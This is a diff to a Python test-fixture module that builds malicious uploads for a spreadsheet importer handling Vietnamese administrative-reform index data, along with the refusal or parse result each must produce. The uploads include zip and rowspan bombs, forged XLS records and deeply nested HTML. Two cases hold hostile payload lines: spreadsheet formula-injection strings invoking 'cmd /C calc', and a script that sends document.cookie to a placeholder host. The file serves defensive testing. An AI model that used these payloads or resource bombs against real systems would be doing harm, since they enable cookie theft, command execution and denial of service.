@@ -2,7 +2,8 @@
 
 Each maker returns a :class:`Case`: the file's name and bytes, and what must happen to it:
 ``Refused(vi, en)`` (a :class:`FileRefused` whose messages match the two regexes) or
-``Read(vi, en)`` (a parsed file; when the regexes are given, some issue must match them).
+``Read(vi, en, names)`` (a parsed file; some issue matches the regexes, and the units read
+are ``names``, when given).
 ``CASES`` lists the makers by name; ``HEAVY`` names those measured for time and memory in a
 subprocess. Big files are built without holding what they inflate to: the 1 GB zip bomb is
 1,024 copies of one deflated megabyte of zeros, joined as one deflate stream.
@@ -39,10 +40,12 @@ class Refused:
 
 @dataclass(frozen=True)
 class Read:
-    """The file must be read; when given, some issue's messages match these regexes."""
+    """The file must be read; when given, some issue's messages match these regexes, and
+    the units read are exactly ``names`` (as stored: NFC, no script text, nothing evaluated)."""
 
     vi: str | None = None
     en: str | None = None
+    names: tuple[str, ...] | None = None
 
 
 @dataclass(frozen=True)
@@ -53,7 +56,7 @@ class Case:
 
 
 CASES: dict[str, Callable[[], Case]] = {}
-HEAVY = ("zip_bomb", "zip_bomb_ratio", "zip_lying_directory", "million_rows_csv",
+HEAVY = ("zip_bomb", "zip_bomb_ratio", "zip_lying_directory", "million_rows_csv", "xls_dimensions_lie",
          "columns_20000_csv", "columns_16384_xlsx", "huge_cell_csv", "huge_cell_xlsx",
          "corner_cell", "unnumbered_cells")
 """Cases whose time and peak memory are measured in a fresh process."""
@@ -318,7 +321,7 @@ def zip_declared_total() -> Case:
     noise = random.Random(3).randbytes(2 * MIB)
     parts = [*skeleton(), *(Member(f"xl/worksheets/sheet{i}.xml", noise, 0, 150 * MIB) for i in (1, 2, 3))]
     return Case("PAR_2024_total.xlsx", raw_zip(parts),
-                over("bung ra tổng cộng 450 MB", "inflates to 450 MB in all", "400 MB", "400 MB"))
+                over("bung ra tổng cộng 451 MB", "inflates to 451 MB in all", "400 MB", "400 MB"))
 
 
 @case
@@ -385,6 +388,16 @@ def word_document_named_xlsx() -> Case:
 
 
 @case
+def binary_workbook() -> Case:
+    """An .xlsb (binary records) renamed .xlsx: not a format the limits can look into."""
+    parts = [member("[Content_Types].xml", b"<Types/>"), member("xl/workbook.bin", bytes(64)),
+             member("xl/worksheets/sheet1.bin", b"\x00\x01" * 32)]
+    return Case("PAR_2024_nhiphan.xlsx", raw_zip(parts),
+                Refused(r"'PAR_2024_nhiphan\.xlsx' là sổ làm việc nhị phân \(\.xlsb\).*Chấp nhận: \.xlsx",
+                        r"'PAR_2024_nhiphan\.xlsx' is a binary workbook \(\.xlsb\).*Accepted: \.xlsx"))
+
+
+@case
 def png_image() -> Case:
     header = b"\x89PNG\r\n\x1a\n" + struct.pack(">I4sIIBBBBB", 13, b"IHDR", 1, 1, 8, 2, 0, 0, 0)
     data = header + struct.pack(">I", zlib.crc32(header[12:])) + zlib.compress(bytes(64)) + b"IEND\xaeB`\x82"
@@ -396,6 +409,31 @@ def damaged_xls() -> Case:
     data = (REALDATA / "PCI_2009.xls").read_bytes()
     return Case("PCI_2009_hong.xls", data[:40000],
                 Refused(r"Không đọc được tệp 'PCI_2009_hong\.xls'", r"Cannot read file 'PCI_2009_hong\.xls'"))
+
+
+def patch_xls(signature: bytes, occurrence: int, offset: int, fmt: str, *values: int) -> bytes:
+    """PCI_2009.xls with the ``occurrence``-th record starting with ``signature`` (type and
+    length, as stored) changed at ``offset`` bytes into it: what a damaged disk or a forger does."""
+    data = bytearray((REALDATA / "PCI_2009.xls").read_bytes())
+    at = -1
+    for _ in range(occurrence + 1):
+        at = data.index(signature, at + 1)
+    struct.pack_into(fmt, data, at + offset, *values)
+    return bytes(data)
+
+
+@case
+def xls_far_cell() -> Case:
+    """One NUMBER record's column set to 28,688 (BIFF8 has 256): calamine asked for 29 GB."""
+    data = patch_xls(b"\x03\x02\x0e\x00", 500, 6, "<H", 0x7010)
+    return Case("PCI_2009_xa.xls", data, Refused(r"có 28689 cột, quá giới hạn 1000 cột", r"28689 columns, over the limit"))
+
+
+@case
+def xls_dimensions_lie() -> Case:
+    """A DIMENSIONS record claiming 4 billion rows: calamine reserves that much and aborts."""
+    data = patch_xls(b"\x00\x02\x0e\x00", 1, 4, "<IIHH", 0, 4_000_000_000, 0, 65000)
+    return Case("PCI_2009_kichthuoc.xls", data, Refused(r"có 4000000000 dòng", r"4000000000 rows"))
 
 
 # Shapes
@@ -537,7 +575,8 @@ def hidden_sheet() -> Case:
     old, old_merges = par_annex(2023)
     data = xlsx({"Năm 2024": rows, "Nháp 2023": old}, {"Năm 2024": merges, "Nháp 2023": old_merges},
                 hidden=("Nháp 2023",))
-    return Case("PAR_2024_an.xlsx", data, Read())
+    return Case("PAR_2024_an.xlsx", data,
+                Read(r"Trang 'Nháp 2023' đang bị ẩn trong Excel", r"Sheet 'Nháp 2023' is hidden in Excel"))
 
 
 @case
@@ -557,47 +596,56 @@ def macro_workbook() -> Case:
 @case
 def error_cells() -> Case:
     data = par_xlsx(changes={(8, 2): "#REF!", (11, 4): "#DIV/0!"})
-    return Case("PAR_2024_loi.xlsx", data, Read(r"#REF!|#DIV/0!", r"#REF!|#DIV/0!"))
+    return Case("PAR_2024_loi.xlsx", data, Read(r"Năm 2024!C9 có giá trị '#REF!' lỗi công thức",
+                                                 r"Năm 2024!C9 holds '#REF!', a formula error"))
 
 
 @case
 def numbers_as_text() -> Case:
     data = par_xlsx(changes={(8, 2): "5,50", (8, 3): "3.5", (11, 2): " 6 ", (11, 3): "4,0",
                              (12, 2): "4\u00a0", (12, 3): "9l,5", (13, 2): "1.234,5"})
-    return Case("PAR_2024_chuso.xlsx", data, Read(r"9l,5", r"9l,5"))
+    return Case("PAR_2024_chuso.xlsx", data, Read(r"Năm 2024!D13 có giá trị '9l,5' không phải số",
+                                                   r"Năm 2024!D13 holds '9l,5', not a number"))
 
 
 @case
 def negative_and_over_maximum() -> Case:
     data = par_xlsx(changes={(8, 2): -3, (11, 3): 99})
-    return Case("PAR_2024_amvuot.xlsx", data, Read(r"-3|99", r"-3|99"))
+    return Case("PAR_2024_amvuot.xlsx", data, Read(r"Năm 2024!C9 có giá trị âm \(-3,00\)",
+                                                    r"Năm 2024!C9 is negative \(-3.00\)"))
 
 
 @case
 def duplicate_units() -> Case:
     data = par_xlsx(extra_rows=[[4, "Phường Hàng Bạc", 6, 4, 5, 4, 19, 95, 1, "A"]])
-    return Case("PAR_2024_trung.xlsx", data, Read(r"Hàng Bạc", r"Hàng Bạc"))
+    return Case("PAR_2024_trung.xlsx", data, Read(r"'P\. Hàng Bạc' xuất hiện nhiều lần \(B12, B15\)",
+                                                   r"'P\. Hàng Bạc' appears more than once \(B12, B15\)"))
 
 
 @case
 def unknown_units() -> Case:
     data = par_xlsx(extra_rows=[[4, "Phường Không Tồn Tại", 5, 3, 4, 4, 16, 80, 2, "A"],
                                 [5, "Đơn vị ???", 5, 3, 4, 4, 16, 80, 2, "A"]])
-    return Case("PAR_2024_la.xlsx", data, Read())
+    return Case("PAR_2024_la.xlsx", data, Read(r"'Phường Không Tồn Tại' chưa có trong danh mục",
+                                                r"'Phường Không Tồn Tại' is not in the registry"))
 
 
 @case
 def nfd_unit_names() -> Case:
     nfd = {(r, 1): unicodedata.normalize("NFD", name) for r, name in
            [(8, "Phòng Nội vụ"), (11, "P. Hàng Bạc"), (12, "Phường Hàng Đào")]}
-    return Case("PAR_2024_nfd.xlsx", par_xlsx(changes=nfd), Read())
+    return Case("PAR_2024_nfd.xlsx", par_xlsx(changes=nfd),
+                Read(names=("Phòng Nội vụ", "Phòng Tư pháp", "P. Hàng Bạc", "Phường Hàng Đào", "HÀNG BỒ")))
 
 
 @case
 def formula_injection() -> Case:
     names = {(8, 1): '=HYPERLINK("http://x.invalid","Phòng Nội vụ")', (9, 1): "+cmd|' /C calc'!A0",
              (11, 1): "-2+3+cmd|' /C calc'!A0", (12, 1): "@SUM(1+1)*cmd|' /C calc'!A0"}
-    return Case("PAR_2024_congthuc.xlsx", par_xlsx(changes=names), Read())
+    # openpyxl writes the "=" one as a formula (no cached value): its row has no unit name.
+    return Case("PAR_2024_congthuc.xlsx", par_xlsx(changes=names),
+                Read(r"Dòng 9 có số liệu nhưng không có tên đơn vị", r"Row 9 has numbers but no unit name",
+                     names=tuple(names[k] for k in [(9, 1), (11, 1), (12, 1)]) + ("HÀNG BỒ",)))
 
 
 @case
@@ -609,12 +657,15 @@ def huge_cell_csv() -> Case:
 
 @case
 def huge_cell_xlsx() -> Case:
-    text = "x" * (5 * MIB)
+    text = random.Random(5).randbytes(5 * MIB).translate(_LETTERS).decode()  # compresses ~1.6×
     sheet = sheet_xml('<row r="1">' + inline("A1", "PAR 2024") + '</row><row r="2">'
                       + inline("B2", text) + "</row>")
     return Case("PAR_2024_odai.xlsx", raw_xlsx(sheet),
                 over("ô PAR 2024!B2: dài 5242880 ký tự", "cell PAR 2024!B2: 5242880 characters",
                      "32767", "32767"))
+
+
+_LETTERS = bytes(97 + i % 26 for i in range(256))
 
 
 @case
@@ -649,9 +700,9 @@ def nul_in_xml() -> Case:
 
 @case
 def quote_storm_csv() -> Case:
-    """Quotes and separators that make csv.Sniffer's regexes backtrack."""
-    text = ('"a;' * 7000) + "\n" + ("'" * 5000) + "\n"
-    return Case("PAR_2024_ngoac.csv", text.encode(), Refused(r"PAR_2024_ngoac\.csv", r"PAR_2024_ngoac\.csv"))
+    """Quotes and separators that make csv.Sniffer's regexes backtrack (15 s on 20,000 of them)."""
+    text = '";' * 10_000 + "\n" + "'" * 5000 + "\n"
+    return Case("PAR_2024_ngoac.csv", text.encode(), over("có 5001 cột", "5001 columns", "1000 cột", "1000 columns"))
 
 
 # Encodings and separators (real ways Excel saves CSV: all must be read)
@@ -691,6 +742,12 @@ def _cp1258(ch: str) -> bytes:
 
 
 @case
+def mac_line_endings_csv() -> Case:
+    """Old Excel for Mac ends lines with a lone carriage return."""
+    return Case("PAR_2024_mac.csv", _units_csv().replace("\n", "\r").encode(), Read())
+
+
+@case
 def semicolon_csv() -> Case:
     return Case("PAR_2024_champhay.csv", _units_csv().encode(), Read())
 
@@ -712,20 +769,23 @@ _HTML_TABLE = ("<table><tr><td>KẾT QUẢ CHỈ SỐ CẢI CÁCH HÀNH CHÍNH N
 @case
 def html_with_script() -> Case:
     data = _html(_HTML_TABLE, "<script>document.location='http://x.invalid/'+document.cookie</script>")
-    return Case("PAR_2024_web.xls", data, Read())
+    return Case("PAR_2024_web.xls", data, Read(names=("Phường Hàng Bạc", "Phường Hàng Đào", "Phường Hàng Bồ")))
 
 
 @case
 def html_bad_spans() -> Case:
     body = ('<table><tr><td rowspan="abc" colspan="99999999">KẾT QUẢ 2024</td></tr>'
             "<tr><td>1</td><td>Phường Hàng Bạc</td><td>91,43</td></tr></table>")
-    return Case("PAR_2024_span.xls", _html(body), Refused(r"99999999 cột|cột", r"columns"))
+    return Case("PAR_2024_span.xls", _html(body), over("trang 'Table1': có 99999999 cột",
+                                                       "sheet 'Table1': 99999999 columns", "1000 cột", "1000 columns"))
 
 
 @case
 def html_rowspan_bomb() -> Case:
     body = ('<table>' + '<tr><td rowspan="65534" colspan="1000">x</td></tr>' * 20 + "</table>")
-    return Case("PAR_2024_spanbomb.xls", _html(body), Refused(r"giới hạn", r"limit"))
+    return Case("PAR_2024_spanbomb.xls", _html(body),
+                over("65534 dòng × 1000 cột = 65534000 ô", "65534 rows × 1000 columns = 65534000 cells",
+                     "6000000 ô", "6000000 cells"))
 
 
 @case
@@ -738,8 +798,10 @@ def html_billion_laughs() -> Case:
 
 @case
 def html_deep_nesting() -> Case:
+    """Deeper than libxml2 goes (256): the table below is lost, and the file refused."""
     body = "<div>" * 50_000 + _HTML_TABLE + "</div>" * 50_000
-    return Case("PAR_2024_sau.xls", _html(body), Read())
+    return Case("PAR_2024_sau.xls", _html(body), Refused(r"'PAR_2024_sau\.xls' \(no <table>\)",
+                                                       r"'PAR_2024_sau\.xls' \(no <table>\)"))
 
 
 def build(name: str) -> Case:
